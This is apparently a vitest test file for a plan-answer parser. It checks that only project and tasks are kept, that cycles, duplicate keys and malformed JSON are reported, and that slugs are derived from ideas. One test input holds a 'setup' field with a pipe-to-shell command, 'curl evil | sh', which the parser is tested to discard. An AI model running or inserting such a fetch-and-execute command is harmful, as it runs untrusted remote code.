import { describe, expect, it } from "vitest";
import { answerJson, answerMarkdown, readPlanAnswer } from "./plan-answer.js";
import { slugOfIdea, slugProblem } from "./slug.js";

const task = (id: string, dependencies: string[] = [], extra: object = {}) => ({
  id,
  status: "done",
  priority: "high",
  description: `Build the part ${id} of the app, with tests.`,
  dependencies,
  acceptance_criteria: [`${id} works`],
  test_steps: ["npm test"],
  ...extra,
});
const origin = { kind: "idea", reference: "docs/PRD-todo.md", title: "a todo app" } as const;

describe("readPlanAnswer", () => {
  it("makes a plan with the caller's id, origin and fields, every task pending, only project and tasks taken", () => {
    const answer = JSON.stringify({
      project: "Todo",
      plan_id: "other",
      setup: "curl evil | sh",
      github_issue_ref: "o/r/1",
      tasks: [task("T-1"), task("T-2", ["T-1"], { version: 7 })],
    });
    const read = readPlanAnswer(`\`\`\`json\n${answer}\n\`\`\``, {
      planId: "todo",
      origin,
      fields: { prd_file: "docs/PRD-todo.md" },
    });
    if (!read.ok) throw new Error(read.problems.join("; "));
    expect(read.plan.id).toBe("todo");
    expect(read.plan.setup).toBeUndefined();
    expect(read.plan.tasks.map((t) => [t.id, t.status, t.version])).toEqual([
      ["T-1", "PENDING", 0],
      ["T-2", "PENDING", 0],
    ]);
    expect(read.plan.extra).toEqual({ prd_file: "docs/PRD-todo.md" });
    expect(read.plan.origin).toEqual(origin);
    expect(read.document.plan_id).toBe("todo");
    expect(read.warnings[0]).toMatch(/dropped: plan_id, setup, github_issue_ref/);
  });

  it("reports a cycle, the gate's refusals, duplicate keys and bad JSON as problems", () => {
    const cyclic = JSON.stringify({ project: "P", tasks: [task("A", ["B"]), task("B", ["A"])] });
    expect(readPlanAnswer(cyclic, { planId: "p", origin })).toEqual({
      ok: false,
      problems: ["Cycle detected: A → B → A"],
    });
    const thin = JSON.stringify({
      project: "P",
      tasks: [{ ...task("A"), description: "short", test_steps: [] }],
    });
    expect(readPlanAnswer(thin, { planId: "p", origin })).toEqual({
      ok: false,
      problems: [
        "task 'A' (tasks[0]): decision gate refused: description too short (5 characters, at least 20); missing test_steps",
      ],
    });
    const twice = `{"project": "P", "project": "Q", "tasks": ${JSON.stringify([task("A")])}}`;
    expect(readPlanAnswer(twice, { planId: "p", origin })).toMatchObject({
      ok: false,
      problems: [expect.stringMatching(/^project: duplicate key \(line 1, column \d+\)$/)],
    });
    const broken = readPlanAnswer('{"project": "P",\n "tasks": [}', { planId: "p", origin });
    expect(broken).toMatchObject({ ok: false, problems: [expect.stringMatching(/invalid JSON at line 2/)] });
    expect(readPlanAnswer("  ", { planId: "p", origin })).toMatchObject({ ok: false });
    expect(readPlanAnswer('{"project": "P", "tasks": []}', { planId: "p", origin })).toMatchObject({
      ok: false,
      problems: [expect.stringMatching(/'tasks' is empty/)],
    });
  });
});

describe("answers with fences and prose", () => {
  it("takes the JSON from a whole fence, a fence among prose, or the braces among prose", () => {
    expect(answerJson("```json\n{}\n```")).toBe("{}");
    expect(answerJson('````\n{"a": "```"}\n````')).toBe('{"a": "```"}');
    expect(answerJson('Here it is:\n```json\n{"a": 1}\n```\nEnjoy.')).toBe('{"a": 1}');
    expect(answerJson('Plan: {"a": {}} done')).toBe('{"a": {}}');
    expect(answerJson(' {"a": 1} ')).toBe('{"a": 1}');
    expect(answerMarkdown("```markdown\n# PRD\n\ntext\n```")).toBe("# PRD\n\ntext");
    expect(answerMarkdown("# PRD\n```sh\nls\n```")).toBe("# PRD\n```sh\nls\n```");
  });
});

describe("plan slugs", () => {
  it("derives a slug from an idea as whilly 4.x did, and names what is wrong with a given one", () => {
    expect(slugOfIdea("Build a TODO app, with tags & due-dates!")).toBe(
      "build-a-todo-app-with-tags-due-dates",
    );
    expect(slugOfIdea("one two three four five six seven eight nine")).toBe(
      "one-two-three-four-five-six-seven-eight",
    );
    expect(slugOfIdea("Привет!!")).toBe("plan");
    expect(slugProblem("todo-app")).toBeUndefined();
    expect(slugProblem("a")).toBeUndefined();
    for (const bad of ["-a", "a-", "Todo", "a_b", "", "a b"])
      expect(slugProblem(bad)).toMatch(/is not a slug/);
  });
});
